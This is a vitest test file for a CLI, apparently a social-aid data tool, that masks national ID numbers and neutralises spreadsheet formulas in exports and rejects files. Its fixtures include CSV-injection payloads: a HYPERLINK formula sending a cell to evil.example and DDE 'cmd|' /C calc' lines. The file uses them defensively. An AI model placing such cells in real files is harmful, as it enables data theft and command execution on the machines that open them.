/**
 * Personal data and formulas in what uep writes and says (issue 11.3, 11.5, 11.6, 11.14): a file
 * without a header is not echoed, NIKs typed into free text are masked in every masked export,
 * rejects files are neutralised like exports with the original cells kept, and every formula
 * starter a spreadsheet knows is neutralised.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralise } from '../../src/export/csv.js';
import { importMonitors } from '../../src/monitor/monitors.js';
import { freshDb, SITI, smallWorld } from '../export/builders.js';
import { nik, tempDir, uep, writeFile } from '../helpers.js';
import { IMPORT_COMMANDS, importInputs } from './path-helpers.js';

describe('a file without its header line (11.3)', () => {
  it('is told so by every import, without echoing the first row (NIK, name, phone)', async () => {
    const dir = tempDir();
    const inputs = importInputs(dir);
    for (const { kind, args } of IMPORT_COMMANDS) {
      if (kind === 'monitors') continue; // a roster row holds no number; see the README
      const [, row] = readFileSync(inputs[kind]!, 'utf8').split('\n');
      const headless = writeFile(dir, `${kind}-tanpa-header.csv`, `${row}\n${row}\n`);
      for (const extra of [[], ['--map', 'nik=NIK']]) {
        const r = await uep([...args(headless), ...extra, '--db', join(dir, 'uep.sqlite')], { cwd: dir });
        const label = `${kind} ${extra.join(' ')}`;
        expect(r.code, label).toBe(1);
        expect(r.stderr, label).toContain('line 1: ');
        expect(r.stderr, label).toContain('the first line looks like data, not a header');
        for (const cell of row!.split(',').filter((c) => c.trim().length >= 4)) expect(r.stderr, `${label}: ${cell}`).not.toContain(cell.trim());
      }
    }
  });

  it('a real header is still named, escaped, to help with --map', async () => {
    const dir = tempDir();
    const file = writeFile(dir, 'x.csv', ['NOMOR,NAMA\u001b[31m,WILAYAH', `${SITI},Siti,Samarinda`]);
    const r = await uep(['import', 'dtks', file, '--db', join(dir, 'uep.sqlite')], { cwd: dir });
    expect(r.stderr).toContain('columns found: NOMOR, NAMA\\x1b[31m, WILAYAH');
  });
});

describe('NIKs typed into free text (11.5)', () => {
  const FORMS = ['6472014507850011', '6472 0145 0785 0012', '647201.450785.0013', '64-72-01-450785-0014'];
  const digits = (s: string) => s.replace(/\D/g, '');

  async function world() {
    const { db, dir, path } = freshDb();
    smallWorld(db);
    await importMonitors(db, writeFile(dir, 'petugas.csv', ['id,nama,peran,kecamatan,kabupaten', 'PSM-01,Bunga,PSM,Samarinda Ulu,Samarinda']));
    // Siti's record as an officer may have typed it: her neighbour's NIK in the address, a KK in the village, a NIK in the name.
    db.prepare(`UPDATE persons SET alamat = ?, desa = ?, nama = ? WHERE nik = ?`)
      .run(`Jl. Antasari 3, rumah NIK ${FORMS[0]} / ${FORMS[1]}`, `Air Hitam (KK ${FORMS[2]})`, `Siti Aminah NIK ${FORMS[3]}`, SITI);
    db.close();
    return { dir, run: (...args: string[]) => uep([...args, '--db', path], { cwd: dir }) };
  }

  function written(dir: string): string {
    return readdirSync(dir).map((f) => readFileSync(join(dir, f), 'utf8')).join('\n');
  }

  function expectMasked(text: string, label: string): void {
    for (const form of FORMS) {
      expect(text, `${label}: ${form}`).not.toContain(form);
      expect(text.replace(/\D/g, ''), `${label}: ${form}`).not.toContain(digits(form));
    }
    expect(text, label).toContain('6472 **** **** 0012');
    expect(text, label).toContain('64-72-**-******-0014');
  }

  it('are masked in the allocation export (CSV, Excel and JSON), the visit sheets and the monitoring report', async () => {
    const { dir, run } = await world();
    expect((await run('export', 'allocation', '--out', 'lampiran', '--quiet')).code).toBe(0);
    expectMasked(written(join(dir, 'lampiran')), 'export allocation');
    expect(written(join(dir, 'lampiran'))).toContain('rumah NIK 6472********0011 / 6472 **** **** 0012');
    expect((await run('export', 'allocation', '--out', 'lampiran-xl', '--excel', '--quiet')).code).toBe(0);
    expectMasked(written(join(dir, 'lampiran-xl')), 'export allocation --excel');
    expect((await run('export', 'allocation', '--out', 'lampiran-json', '--format', 'json', '--quiet')).code).toBe(0);
    expectMasked(written(join(dir, 'lampiran-json')), 'export allocation --format json');
    expect((await run('monitor', 'plan', '--tanggal-hibah', '2025-03-01', '--out', 'lembar', '--quiet')).code).toBe(0);
    expectMasked(written(join(dir, 'lembar')), 'monitor plan');
    // A year on, every visit is overdue: the report lists Siti by name and village.
    expect((await run('report', 'monitoring', '--as-of', '2026-06-01', '--out', 'laporan', '--quiet')).code).toBe(0);
    const report = written(join(dir, 'laporan'));
    expect(report).toContain('Siti Aminah NIK 64-72-**-******-0014');
    expect(report.replace(/\D/g, '')).not.toContain(digits(FORMS[3]!));
  });

  it('are written in full only with --no-mask-nik (the signed decree)', async () => {
    const { dir, run } = await world();
    expect((await run('export', 'allocation', '--out', 'sk', '--no-mask-nik', '--quiet')).code).toBe(0);
    const text = written(join(dir, 'sk'));
    for (const form of FORMS) expect(text).toContain(form);
  });
});

describe('rejects files (11.6)', () => {
  it('are neutralised like exports, and the original cells are kept exactly in the raw column', async () => {
    const dir = tempDir();
    const hostile = [
      [nik('6472', 1, 1, 80, 1), '=HYPERLINK("http://evil.example/?x="&A1,"klik")', 'Samarinda', '11'],
      ['6.47201E+15', '@SUM(1+1)*cmd|\' /C calc\'!A0', 'Samarinda', '1'],
      [nik('6472', 1, 1, 80, 2), ' =1+1', '＝1+1', 'x'],
      [nik('6472', 1, 1, 80, 3), 'Siti', 'Jakarta', '1'],
    ];
    const lines = ['nik,nama,kabupaten,desil', ...hostile.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(','))];
    const file = writeFile(dir, 'dtks.csv', lines);
    const r = await uep(['import', 'dtks', file, '--rejects', join(dir, 'rejects.csv'), '--db', join(dir, 'uep.sqlite')], { cwd: dir });
    expect(r.code).toBe(0);
    const rows = parse(readFileSync(join(dir, 'rejects.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.map((x) => [x.line, x.reason])).toEqual([['2', 'desil_invalid'], ['3', 'nik_scientific'], ['4', 'region_unknown'], ['5', 'region_unknown']]);
    expect(rows.map((x) => x.nama)).toEqual([`'${hostile[0]![1]}`, `'${hostile[1]![1]}`, `' =1+1`, 'Siti']);
    expect(rows[2]!.kabupaten).toBe(`'＝1+1`);
    // Every cell a spreadsheet could run starts with an apostrophe; the raw column gives the bytes back.
    for (const [i, row] of rows.entries()) {
      for (const cell of [row.nik!, row.nama!, row.kabupaten!, row.desil!]) expect(neutralise(cell)).toBe(cell);
      expect(row.raw === '' ? [row.nik, row.nama, row.kabupaten, row.desil] : JSON.parse(row.raw!)).toEqual(hostile[i]);
    }
    expect(rows[3]!.raw).toBe('');
  });
});

describe('formula starters (11.14)', () => {
  it.each([
    ['|cmd', "'|cmd"], [' =1+1', "' =1+1"], ['  @SUM(A1)', "'  @SUM(A1)"], ['\u00a0+1', "'\u00a0+1"], ['\u3000-1', "'\u3000-1"],
    ['＝1+1', "'＝1+1"], ['＋62812', "'＋62812"], ['－1', "'－1"], ['＠SUM(A1)', "'＠SUM(A1)"], ['｜cmd', "'｜cmd"],
    ['Jl. A - B', 'Jl. A - B'], ['a|b', 'a|b'], ['Rp 5.000', 'Rp 5.000'],
  ])('%j → %j', (input, output) => expect(neutralise(input)).toBe(output));

  it('in an export, and in the one function every writer uses', async () => {
    const { db, dir, path } = freshDb();
    smallWorld(db);
    db.prepare(`UPDATE persons SET nama = '＝1+1', alamat = ' =cmd|'' /C calc''!A0' WHERE nik = ?`).run(SITI);
    db.close();
    expect((await uep(['export', 'allocation', '--out', 'x', '--db', path, '--quiet'], { cwd: dir })).code).toBe(0);
    const line = readFileSync(join(dir, 'x', 'penerima-6472-samarinda.csv'), 'utf8').split('\n')[1];
    expect(line).toContain(`,'＝1+1,`);
    expect(line).toContain(`,' =cmd|' /C calc'!A0,`);
  });
});
